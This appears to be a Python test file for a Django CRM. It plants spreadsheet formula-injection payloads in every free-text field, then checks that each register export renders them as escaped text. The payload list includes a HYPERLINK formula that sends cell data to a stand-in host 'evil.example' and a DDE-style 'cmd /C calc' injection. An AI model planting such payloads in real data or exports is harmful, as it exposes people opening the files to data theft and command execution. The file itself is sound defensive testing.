"""Formula payloads (=HYPERLINK(…), +1, -1, @SUM, a leading tab) in the data come out of every
register export as text, never as a formula a spreadsheet would run.

Every free-text column of our apps' tables is overwritten with a payload (as an import or a
careless form might have stored it), then every register of the crm.exports registry is
exported as the admin and opened with openpyxl.
"""
from __future__ import annotations

import io

from django.apps import apps
from django.contrib.auth import get_user_model
from django.db import IntegrityError, models, transaction
from django.urls import reverse
from hypothesis import HealthCheck, given, settings, strategies as st
from openpyxl import load_workbook

from crm.exports import REGISTERS
from crm.roles import OWN_APPS

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1", "-1", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "=1+1", "-2+3", "\r=2"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _poison(payloads: list[str]) -> None:
    """Every free-text field (not unique, no choices) of our apps' models gets a payload."""
    n = 0
    for model in apps.get_models():
        if model._meta.app_label not in OWN_APPS or model._meta.proxy or not model._meta.managed:
            continue
        if model.__name__.startswith("Historical"):
            continue
        for field in model._meta.concrete_fields:
            if not isinstance(field, (models.CharField, models.TextField)) or field.unique or field.choices:
                continue
            if isinstance(field, (models.EmailField, models.URLField, models.SlugField)) or field.primary_key:
                continue
            value = payloads[n % len(payloads)]
            n += 1
            if getattr(field, "max_length", None):
                value = value[: field.max_length]
            try:
                with transaction.atomic():
                    model._base_manager.update(**{field.attname: value})
            except IntegrityError:
                pass  # part of a unique-together key: left as it was


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                yield cell


@settings(max_examples=3, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(payloads=st.permutations(PAYLOADS))
def test_every_register_export_escapes_formula_payloads(as_role, payloads):
    client = as_role("admin")
    _poison(list(payloads))
    admin = get_user_model().objects.get(username="admin")
    assert REGISTERS, "no register is registered"
    seen = set()
    for code, register in sorted(REGISTERS.items()):
        assert register.allowed(admin), code
        response = client.get(reverse("crm:export_register", args=[code]))
        assert response.status_code == 200, f"{code}: {response.status_code}"
        content = b"".join(response.streaming_content) if response.streaming else response.content
        for cell in _cells(content):
            assert cell.data_type != "f", f"{code} {cell.coordinate}: a formula {cell.value!r}"
            if isinstance(cell.value, str):
                assert not cell.value.startswith(DANGEROUS), f"{code} {cell.coordinate}: {cell.value!r} unescaped"
                if cell.value.startswith("'") and cell.value[1:].startswith(DANGEROUS):
                    seen.add(code)
    # The payloads reached the exports (else this test would prove nothing).
    assert len(seen) >= len(REGISTERS) // 2, f"payloads seen only in {sorted(seen)}"
